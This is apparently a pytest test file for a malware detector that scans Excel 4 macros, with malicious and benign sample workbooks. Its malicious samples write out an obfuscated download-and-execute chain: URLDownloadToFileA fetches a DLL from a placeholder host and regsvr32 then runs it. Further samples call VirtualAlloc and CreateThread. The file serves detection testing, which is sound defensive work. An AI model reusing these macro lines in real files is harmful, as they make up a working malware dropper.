"""What traced_macro_calls_windows must find in macros of Excel 4, and (more) what it must leave alone."""

from __future__ import annotations

import pytest

from tests import files_office as office
from tests.workers.attachments.scan import File
from tests.workers.sandbox.run import found

DOWNLOAD = (
    'SET.VALUE(B1,"http://a.exa"&"mple/a.dll")',
    'CALL("ur"&"lmon","URLDown"&"loadToFileA","JJCCJJ",0,B1,"C:\\ProgramData\\a.dll",0,0)',
    'EXEC("regsvr32 -s C:\\ProgramData\\a.dll")',
)
BAD: dict[str, File] = {
    "a download": ("a.xlsm", office.xlsm(*DOWNLOAD)),
    "a download of a registered function": (
        "a.xlsm",
        office.xlsm(
            'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","get",,1,9)', 'get(0,"http://a.example/","C:\\a.exe",0,0)'
        ),
    ),
    "a download in a formula that is written": (
        "a.xlsm",
        office.xlsm(
            'FORMULA("=CALL(""urlmon"",""URLDownloadToFileA"",""JJCCJJ"",0,""http://a.example/a"",""C:\\a"",0,0)",A2)'
        ),
    ),
    "code in memory": ("b.xlsm", office.xlsm('CALL("Kernel32","VirtualAlloc","JJJJJ",0,8192,4096,64)')),
    "a thread": ("b.xlsm", office.xlsm('CALL("Kernel32","CreateThread","JJJJJJJ",0,0,B1,0,0,0)')),
}
GOOD: dict[str, File] = {
    "a message": ("a.xlsm", office.xlsm('ALERT("Prices are those of May")', "HALT()")),
    "sums": ("b.xlsm", office.xlsm("SET.VALUE(B1,SUM(C1:C9))", "FORMULA(B1*1.19,B2)", "RETURN()")),
    "nothing starts it": ("c.xlsm", office.xlsm(*DOWNLOAD, auto=False)),
    "never comes to it": ("d.xlsm", office.xlsm("HALT()", *DOWNLOAD)),
    "names of the user": ("e.xlsm", office.xlsm('CALL("advapi32","GetUserNameA","JCJ",B1,255)')),
    "windows": ("f.xlsm", office.xlsm('SET.VALUE(B1,CALL("user32","FindWindowA","JCC","XLMAIN",0))')),
    "settings": ("g.xlsm", office.xlsm('CALL("kernel32","GetPrivateProfileStringA","JCCCFJC","a","b","","",9,"c")')),
    "its own library": ("h.xlsm", office.xlsm('REGISTER("C:\\Tools\\solver.dll","solve","BB","SOLVE",,1,14)')),
    "a sound": ("i.xlsm", office.xlsm('CALL("winmm","sndPlaySoundA","JCJ","ding.wav",1)')),
    "another workbook": ("j.xlsm", office.xlsm('OPEN("S:\\prices\\2026.xls")', "FILE.CLOSE(FALSE)")),
    "a list in a file": ("k.xlsm", office.xlsm('SET.VALUE(B1,FOPEN("C:\\a.csv",3))', 'FWRITE(B1,"a;b")', "FCLOSE(B1)")),
    "of Excel 97": ("l.xls", office.xls(office.text_token("a") + b"\x42\x01\x76\x80")),
    "damaged": ("m.xlsm", office.xlsm(*DOWNLOAD)[:700]),
}  # fmt: skip


@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
def test_is_found(file: File) -> None:
    (finding,) = found("traced_macro_calls_windows", file)
    assert finding.detail
    assert finding.where.decoded


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("traced_macro_calls_windows", file) == []


# Nor may any other detector weigh these.
@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_good_macros_weigh_little(file: File) -> None:
    assert all(finding.weight <= 0.5 for finding in found("", file))
